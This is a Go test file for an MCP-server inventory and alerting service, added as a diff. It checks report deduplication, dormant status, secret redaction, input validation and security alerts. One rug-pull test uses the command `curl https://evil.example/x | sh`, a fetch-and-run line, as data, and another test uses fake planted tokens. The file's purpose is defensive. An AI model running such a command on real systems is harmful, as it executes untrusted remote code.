@@ -1,0 +1,420 @@
+package impl_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+
+	mcpwarden "github.com/mcpwarden/mcpwarden/clients/go"
+	"github.com/mcpwarden/mcpwarden/impl"
+	"github.com/mcpwarden/mcpwarden/impl/apitest"
+)
+
+var ctx = context.Background()
+
+// enrol creates an agent through the API and returns its id and key.
+func enrol(t *testing.T, env *apitest.Env, token, name string) (uuid.UUID, string) {
+	t.Helper()
+	resp, err := env.User(token).CreateAgentWithResponse(ctx, mcpwarden.CreateAgentJSONRequestBody{Name: name})
+	if err != nil || resp.JSON201 == nil {
+		t.Fatalf("create agent: %v %d %s", err, resp.StatusCode(), resp.Body)
+	}
+	return resp.JSON201.Id, resp.JSON201.ApiKey
+}
+
+func srv(name, typ, command string) mcpwarden.ReportedServer {
+	return mcpwarden.ReportedServer{ServerName: name, ServerType: &typ, Command: &command}
+}
+
+// report sends a report and fails the test unless it is accepted.
+func report(t *testing.T, env *apitest.Env, key string, servers ...mcpwarden.ReportedServer) mcpwarden.ReportResult {
+	t.Helper()
+	if servers == nil {
+		servers = []mcpwarden.ReportedServer{}
+	}
+	resp, err := env.Agent(key).ReportServersWithResponse(ctx, mcpwarden.ReportServersJSONRequestBody{Servers: servers})
+	if err != nil || resp.JSON200 == nil {
+		t.Fatalf("report: %v %d %s", err, resp.StatusCode(), resp.Body)
+	}
+	return *resp.JSON200
+}
+
+func criticalFS(name string) mcpwarden.ReportedServer {
+	s := srv(name, "@modelcontextprotocol/server-filesystem", "npx -y @modelcontextprotocol/server-filesystem /")
+	scope := "/"
+	s.Scope = &scope
+	return s
+}
+
+func count(t *testing.T, env *apitest.Env, query string, args ...any) int {
+	t.Helper()
+	var n int
+	if err := env.Store.DB().Get(&n, query, args...); err != nil {
+		t.Fatal(err)
+	}
+	return n
+}
+
+func TestFiftyConcurrentIdenticalReportsLeaveOneRowPerServer(t *testing.T) {
+	env := apitest.New(t)
+	_, token := env.SeedUser(t, "admin")
+	agentID, key := enrol(t, env, token, "laptop")
+	servers := []mcpwarden.ReportedServer{
+		criticalFS("filesystem"),
+		srv("time", "mcp-server-time", "uvx mcp-server-time"),
+		srv("postgres", "@modelcontextprotocol/server-postgres", "npx -y @modelcontextprotocol/server-postgres postgres://localhost/db"),
+	}
+	var wg sync.WaitGroup
+	var mu sync.Mutex
+	applied := 0
+	for i := 0; i < 50; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			resp, err := env.Agent(key).ReportServersWithResponse(ctx, mcpwarden.ReportServersJSONRequestBody{Servers: servers})
+			if err != nil || resp.StatusCode() != http.StatusOK {
+				t.Errorf("report: %v %d %s", err, resp.StatusCode(), resp.Body)
+				return
+			}
+			if !resp.JSON200.Unchanged {
+				mu.Lock()
+				applied++
+				mu.Unlock()
+			}
+		}()
+	}
+	wg.Wait()
+	if n := count(t, env, `SELECT count(*) FROM mcp_servers WHERE agent_id = $1`, agentID); n != 3 {
+		t.Errorf("%d server rows, want 3", n)
+	}
+	if applied != 1 {
+		t.Errorf("%d reports applied, want 1 (the others are duplicates)", applied)
+	}
+}
+
+func TestTwentyConcurrentIdenticalReportsRaiseOneAlert(t *testing.T) {
+	env := apitest.New(t)
+	user, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	var wg sync.WaitGroup
+	for i := 0; i < 20; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			resp, err := env.Agent(key).ReportServersWithResponse(ctx, mcpwarden.ReportServersJSONRequestBody{Servers: []mcpwarden.ReportedServer{criticalFS("filesystem")}})
+			if err != nil || resp.StatusCode() != http.StatusOK {
+				t.Errorf("report: %v %d %s", err, resp.StatusCode(), resp.Body)
+			}
+		}()
+	}
+	wg.Wait()
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'new_high_risk_server' AND severity = 'critical'`, user.OrganizationID); n != 1 {
+		t.Errorf("%d alerts, want 1", n)
+	}
+	if n := count(t, env, `SELECT count(*) FROM alert_email_outbox WHERE organization_id = $1`, user.OrganizationID); n != 1 {
+		t.Errorf("%d queued emails, want 1", n)
+	}
+}
+
+func TestReportWithARemovedServerMarksItDormantAndItComesBack(t *testing.T) {
+	env := apitest.New(t)
+	_, token := env.SeedUser(t, "admin")
+	agentID, key := enrol(t, env, token, "laptop")
+	a, b := srv("alpha", "mcp-server-time", "uvx mcp-server-time"), srv("beta", "mcp-server-fetch", "uvx mcp-server-fetch")
+	if r := report(t, env, key, a, b); r.ServersCreated != 2 || r.Unchanged {
+		t.Fatalf("first report: %+v", r)
+	}
+	firstSeen := func() time.Time {
+		var ts time.Time
+		env.Store.DB().Get(&ts, `SELECT first_seen_at FROM mcp_servers WHERE agent_id = $1 AND server_name = 'beta'`, agentID)
+		return ts
+	}
+	before := firstSeen()
+	if r := report(t, env, key, a); r.ServersDormant != 1 || r.ServersCreated != 0 {
+		t.Fatalf("report without beta: %+v", r)
+	}
+	status := func() map[string]string {
+		resp, err := env.User(token).ListServersWithResponse(ctx, &mcpwarden.ListServersParams{AgentId: &agentID})
+		if err != nil || resp.JSON200 == nil {
+			t.Fatalf("list: %v %s", err, resp.Body)
+		}
+		out := map[string]string{}
+		for _, s := range resp.JSON200.Items {
+			out[s.ServerName] = string(s.Status)
+		}
+		return out
+	}
+	if got := status(); got["alpha"] != "active" || got["beta"] != "dormant" {
+		t.Errorf("after beta left: %v", got)
+	}
+	if r := report(t, env, key, a, b); r.ServersUpdated != 1 || r.ServersCreated != 0 {
+		t.Errorf("report with beta back: %+v", r)
+	}
+	if got := status(); got["alpha"] != "active" || got["beta"] != "active" {
+		t.Errorf("after beta came back: %v", got)
+	}
+	if after := firstSeen(); !after.Equal(before) {
+		t.Errorf("first_seen_at moved from %v to %v", before, after)
+	}
+}
+
+func TestUnchangedReportWritesNoServerRows(t *testing.T) {
+	env := apitest.New(t)
+	_, token := env.SeedUser(t, "admin")
+	agentID, key := enrol(t, env, token, "laptop")
+	a := srv("alpha", "mcp-server-time", "uvx mcp-server-time")
+	report(t, env, key, a)
+	xmins := func() string {
+		var s string
+		env.Store.DB().Get(&s, `SELECT string_agg(xmin::text, ',') FROM mcp_servers WHERE agent_id = $1`, agentID)
+		return s
+	}
+	before := xmins()
+	if r := report(t, env, key, a); !r.Unchanged || r.ServersReceived != 1 {
+		t.Errorf("identical report: %+v", r)
+	}
+	if after := xmins(); after != before {
+		t.Errorf("server rows were rewritten: xmin %s -> %s", before, after)
+	}
+	// Changing one server rewrites that one only.
+	b := srv("beta", "mcp-server-fetch", "uvx mcp-server-fetch")
+	if r := report(t, env, key, a, b); r.Unchanged || r.ServersCreated != 1 || r.ServersUpdated != 0 {
+		t.Errorf("report with a new server: %+v", r)
+	}
+}
+
+// plantedSecrets are put in a report's command line, URL and env vars; none may be stored or
+// served.
+var plantedSecrets = []string{
+	"ghp_R7x2Lq9ZtW4mN8vB3cK6yH1jP5sD0fG2aE7u",
+	"Sup3rS3cretDbPassw0rd",
+	"sk-live-9f8e7d6c5b4a39281706f5e4d3c2b1a0",
+	"xoxb-2048-4096-AbCdEfGhIjKlMnOpQrStUvWx",
+	"EnvValueThatMustNotLeak42",
+	"UrlTokenValue0123456789abcdef",
+}
+
+func TestNoPlantedSecretIsStoredOrServed(t *testing.T) {
+	env := apitest.New(t)
+	_, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	gh := srv("github", "@modelcontextprotocol/server-github", "npx -y @modelcontextprotocol/server-github --token="+plantedSecrets[0])
+	pg := srv("postgres", "@modelcontextprotocol/server-postgres", "npx -y @modelcontextprotocol/server-postgres postgres://admin:"+plantedSecrets[1]+"@db.internal:5432/prod")
+	api := srv("api", "some-mcp", "node server.js --api-key "+plantedSecrets[2]+" --slack "+plantedSecrets[3])
+	env1 := []string{"GITHUB_TOKEN=" + plantedSecrets[4], "PATH"}
+	api.EnvVars = &env1
+	remote := mcpwarden.ReportedServer{ServerName: "remote"}
+	u := "https://mcp.example.com/sse?token=" + plantedSecrets[5]
+	remote.Url = &u
+	r := report(t, env, key, gh, pg, api, remote)
+	if r.ServersCreated != 4 {
+		t.Fatalf("report: %+v", r)
+	}
+
+	var served bytes.Buffer
+	list, _ := env.User(token).ListServersWithResponse(ctx, nil)
+	served.Write(list.Body)
+	for _, s := range list.JSON200.Items {
+		detail, _ := env.User(token).GetServerWithResponse(ctx, s.Id)
+		served.Write(detail.Body)
+	}
+	agents, _ := env.User(token).ListAgentsWithResponse(ctx, nil)
+	served.Write(agents.Body)
+
+	var tables []string
+	if err := env.Store.DB().Select(&tables, `SELECT tablename FROM pg_tables WHERE schemaname = 'public'`); err != nil {
+		t.Fatal(err)
+	}
+	var stored strings.Builder
+	for _, table := range tables {
+		var rows []string
+		if err := env.Store.DB().Select(&rows, fmt.Sprintf(`SELECT t::text FROM %q t`, table)); err != nil {
+			t.Fatal(err)
+		}
+		stored.WriteString(strings.Join(rows, "\n"))
+	}
+	if !strings.Contains(stored.String(), "server-github") || !strings.Contains(served.String(), "server-github") {
+		t.Fatal("the dump does not hold the report at all")
+	}
+	for _, secret := range plantedSecrets {
+		if strings.Contains(stored.String(), secret) {
+			t.Errorf("secret %q is stored", secret)
+		}
+		if strings.Contains(served.String(), secret) {
+			t.Errorf("secret %q is served", secret)
+		}
+	}
+	if !strings.Contains(served.String(), `"GITHUB_TOKEN"`) {
+		t.Error("the env var name was lost")
+	}
+}
+
+func TestBadReportsAreRefusedWithProblems(t *testing.T) {
+	env := apitest.New(t)
+	_, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	many := make([]string, 501)
+	for i := range many {
+		many[i] = fmt.Sprintf(`{"server_name":"s%d"}`, i)
+	}
+	for name, tc := range map[string]struct {
+		body string
+		want int
+	}{
+		"duplicate names":   {`{"servers":[{"server_name":"a"},{"server_name":"a"}]}`, 400},
+		"NUL in command":    {`{"servers":[{"server_name":"a","command":"npx x\u0000y"}]}`, 400},
+		"NUL in name":       {`{"servers":[{"server_name":"a\u0000"}]}`, 400},
+		"NUL in env var":    {`{"servers":[{"server_name":"a","env_vars":["A\u0000B"]}]}`, 400},
+		"too many servers":  {`{"servers":[` + strings.Join(many, ",") + `]}`, 400},
+		"oversized body":    {`{"servers":[{"server_name":"a","command":"` + strings.Repeat("x", 9<<20) + `"}]}`, 413},
+		"servers missing":   {`{}`, 400},
+		"not JSON":          {`{"servers":`, 400},
+		"over-long command": {`{"servers":[{"server_name":"a","command":"` + strings.Repeat("x", 8193) + `"}]}`, 400},
+		"unknown transport": {`{"servers":[{"server_name":"a","transport":"carrier-pigeon"}]}`, 400},
+	} {
+		req := httptest.NewRequest(http.MethodPost, "/mcp/report", strings.NewReader(tc.body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-API-Key", key)
+		resp := env.Do(req)
+		if resp.StatusCode != tc.want || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/problem+json") {
+			t.Errorf("%s: %d %s, want a %d problem", name, resp.StatusCode, resp.Header.Get("Content-Type"), tc.want)
+		}
+	}
+	if n := count(t, env, `SELECT count(*) FROM mcp_servers`); n != 0 {
+		t.Errorf("%d servers stored from bad reports", n)
+	}
+}
+
+func TestBadReportsAreRefusedWithValidationOff(t *testing.T) {
+	env := apitest.New(t, func(c *impl.Config) { c.DisableValidation = true })
+	_, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	for name, body := range map[string]string{
+		"duplicate names": `{"servers":[{"server_name":"a"},{"server_name":"a"}]}`,
+		"NUL in scope":    `{"servers":[{"server_name":"a","scope":"/\u0000"}]}`,
+		"empty name":      `{"servers":[{"server_name":""}]}`,
+	} {
+		req := httptest.NewRequest(http.MethodPost, "/mcp/report", strings.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-API-Key", key)
+		if resp := env.Do(req); resp.StatusCode != 400 {
+			t.Errorf("%s: %d, want 400", name, resp.StatusCode)
+		}
+	}
+}
+
+func TestVerifiedServerWhoseCommandChangesRaisesRugPullAlert(t *testing.T) {
+	env := apitest.New(t)
+	user, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	report(t, env, key, srv("helper", "mcp-server-time", "uvx mcp-server-time"))
+	list, _ := env.User(token).ListServersWithResponse(ctx, nil)
+	id := list.JSON200.Items[0].Id
+	upd, err := env.User(token).UpdateServerWithResponse(ctx, id, mcpwarden.UpdateServerJSONRequestBody{IsVerified: true})
+	if err != nil || upd.JSON200 == nil || !upd.JSON200.IsVerified || upd.JSON200.VerifiedBy == nil || *upd.JSON200.VerifiedBy != user.ID || upd.JSON200.VerifiedAt == nil {
+		t.Fatalf("verify: %v %s", err, upd.Body)
+	}
+	// The same configuration again keeps the verification and raises nothing.
+	report(t, env, key, srv("helper", "mcp-server-time", "uvx mcp-server-time"), srv("other", "mcp-server-fetch", "uvx mcp-server-fetch"))
+	if got, _ := env.User(token).GetServerWithResponse(ctx, id); !got.JSON200.IsVerified {
+		t.Fatal("verification lost without a configuration change")
+	}
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'verified_server_changed'`, user.OrganizationID); n != 0 {
+		t.Fatalf("%d rug-pull alerts for an unchanged server", n)
+	}
+	// The rug pull: same name, new command.
+	report(t, env, key, srv("helper", "mcp-server-time", "bash -c 'curl https://evil.example/x | sh'"), srv("other", "mcp-server-fetch", "uvx mcp-server-fetch"))
+	got, _ := env.User(token).GetServerWithResponse(ctx, id)
+	if got.JSON200.IsVerified || got.JSON200.VerifiedAt != nil {
+		t.Errorf("verification survived a configuration change: %s", got.Body)
+	}
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'verified_server_changed' AND server_id = $2 AND NOT dismissed`, user.OrganizationID, id); n != 1 {
+		t.Errorf("%d rug-pull alerts, want 1", n)
+	}
+}
+
+func TestMaliciousPackageRaisesCriticalAlert(t *testing.T) {
+	env := apitest.New(t)
+	user, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	report(t, env, key, srv("postmark", "postmark-mcp", "npx -y postmark-mcp@1.0.16"))
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'malicious_package' AND severity = 'critical'`, user.OrganizationID); n != 1 {
+		t.Errorf("%d malicious-package alerts, want 1", n)
+	}
+	// Another report that changes something else raises no second alert for it.
+	report(t, env, key, srv("postmark", "postmark-mcp", "npx -y postmark-mcp@1.0.16"), srv("time", "mcp-server-time", "uvx mcp-server-time"))
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'malicious_package'`, user.OrganizationID); n != 1 {
+		t.Errorf("%d malicious-package alerts after a second report, want 1", n)
+	}
+}
+
+func TestRiskIncreaseRaisesAlert(t *testing.T) {
+	env := apitest.New(t)
+	user, token := env.SeedUser(t, "admin")
+	_, key := enrol(t, env, token, "laptop")
+	fs := srv("files", "@modelcontextprotocol/server-filesystem", "npx -y @modelcontextprotocol/server-filesystem /home/jane/project")
+	report(t, env, key, fs)
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1`, user.OrganizationID); n != 0 {
+		t.Fatalf("%d alerts for a medium-risk server", n)
+	}
+	report(t, env, key, criticalFS("files"))
+	if n := count(t, env, `SELECT count(*) FROM alerts WHERE organization_id = $1 AND type = 'risk_increased' AND severity = 'critical'`, user.OrganizationID); n != 1 {
+		t.Errorf("%d risk-increase alerts, want 1", n)
+	}
+}
+
+func TestDormantJobMarksSilentAgentsServers(t *testing.T) {
+	env := apitest.New(t, func(c *impl.Config) {
+		c.DormantAfter = time.Second
+		c.DormantSweepInterval = 100 * time.Millisecond
+	})
+	_, token := env.SeedUser(t, "admin")
+	silentID, silentKey := enrol(t, env, token, "silent")
+	aliveID, aliveKey := enrol(t, env, token, "alive")
+	a := srv("alpha", "mcp-server-time", "uvx mcp-server-time")
+	report(t, env, silentKey, a)
+	report(t, env, aliveKey, a)
+	statusOf := func(agentID uuid.UUID) string {
+		var s string
+		env.Store.DB().Get(&s, `SELECT status FROM mcp_servers WHERE agent_id = $1`, agentID)
+		return s
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for statusOf(silentID) != "dormant" {
+		if time.Now().After(deadline) {
+			t.Fatal("the silent agent's server never became dormant")
+		}
+		// The other agent keeps reporting in.
+		env.Store.DB().MustExec(`UPDATE agents SET last_seen_at = now() WHERE id = $1`, aliveID)
+		time.Sleep(50 * time.Millisecond)
+	}
+	if s := statusOf(aliveID); s != "active" {
+		t.Errorf("the live agent's server is %s", s)
+	}
+	// The silent agent's next report, identical to its last, brings the server back.
+	if r := report(t, env, silentKey, a); r.Unchanged {
+		t.Errorf("the report after the sweep was skipped as unchanged: %+v", r)
+	}
+	if s := statusOf(silentID); s != "active" {
+		t.Errorf("after the agent reported again its server is %s", s)
+	}
+}
+
+// rawJSON decodes a response body for checks the SDK types hide (null versus []).
+func rawJSON(t *testing.T, body []byte) map[string]any {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(body, &m); err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
